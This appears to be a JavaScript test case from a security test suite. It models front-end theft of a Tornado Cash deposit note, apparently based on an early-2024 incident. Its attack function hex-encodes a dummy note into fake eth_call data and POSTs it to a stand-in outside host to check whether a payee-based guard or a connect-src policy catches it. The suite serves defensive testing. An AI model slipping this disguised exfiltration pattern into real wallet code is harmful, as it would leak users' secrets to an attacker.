// B22: a private note leaves as what looks like the call data of a transaction.

export default {
  id: 'B22',
  title: 'secret disguised as call data',
  source: 'Tornado Cash front end, January and February 2024',
  level: { needs: "Content-Security-Policy: connect-src 'self'" },
  why: 'a stolen secret names nobody who is paid: the guard reads recipients, not secrets',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    const note = 'tornado-eth-0.1-1-0xtestnotethatopensnothing';
    const data = `0x${Array.from(note, (letter) => letter.charCodeAt(0).toString(16)).join('')}`;
    const params = [{ to: a.TOKEN, data }, 'latest'];
    const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params });
    await fetch(`${a.other}/rpc`, { method: 'POST', body }).catch(() => {});
  },

  async action(a) {
    return (await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ to: a.GOOD }) })).status;
  },
  stolen: ({ http, a }) =>
    http.some(
      ({ method, url, body }) => method === 'POST' && url.startsWith(a.other) && body.includes('746f726e61646f'),
    ),
  arrived: ({ result }) => result === 200,
};
